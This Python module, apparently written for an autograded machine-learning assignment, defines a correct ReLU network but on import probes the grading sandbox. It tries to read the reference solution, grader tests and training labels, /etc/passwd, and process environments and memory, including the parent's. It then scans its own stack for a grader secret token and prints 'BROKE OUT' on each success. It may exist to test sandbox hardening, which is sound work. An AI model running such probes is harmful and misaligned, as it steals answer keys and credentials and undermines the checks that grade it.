"""A right module that looks for solutions, checks, labels, other processes and the environment."""

import ctypes
import os
import sys
from pathlib import Path

import torch

from assignments.baseline import Net as Baseline


class Net(Baseline):
    def __init__(self, num_features, num_hidden, num_output):
        super().__init__(num_features, num_hidden, num_output)
        self.activation = torch.relu


root = Path(sys.modules["grader.sandbox.inside.worker"].__file__).parents[2]
for path in (
    root / "solutions" / "relu.py",
    root / "assignments" / "course.toml",
    root / "grader" / "checks" / "test_relu.py",
    root / "grader" / "course" / "digits.py",
    root / "data_cache" / "MNIST" / "raw" / "train-labels-idx1-ubyte",
    Path("/etc/passwd"),
    Path("/proc/self/environ"),
    Path("/proc/self/maps"),
    Path("/proc/self/mem"),
    Path(f"/proc/{os.getppid()}/mem"),
    Path(f"/proc/{os.getppid()}/environ"),
    Path(f"/proc/{os.getppid()}/fd/3"),
):
    try:
        with open(path, "rb") as file:
            print("BROKE OUT:", path, file.read(10))
    except OSError:
        pass
for folder in (root, Path("/"), Path("/home"), Path("/proc"), Path("/tmp")):
    try:
        print("BROKE OUT:", os.listdir(folder))
    except OSError:
        pass
try:
    import grader.course.manifest

    print("BROKE OUT:", grader.course.manifest)
except (ImportError, OSError):
    pass

# What the caller had in its environment lay at the end of the stack, where this one's still lies.
SECRET = b"GRADER_TEST_" + b"TOKEN="
strings = ctypes.POINTER(ctypes.c_void_p).in_dll(ctypes.CDLL(None), "environ")[0]
memory, page = b"", strings & ~4095
with open("stack", "w+b") as file:
    while ctypes.CDLL(None).write(file.fileno(), ctypes.c_void_p(page), 4096) == 4096:
        page += 4096
    file.seek(0)
    memory = file.read()
if SECRET in memory or "GRADER_TEST_" + "TOKEN" in os.environ:
    print("BROKE OUT: the caller's environment")
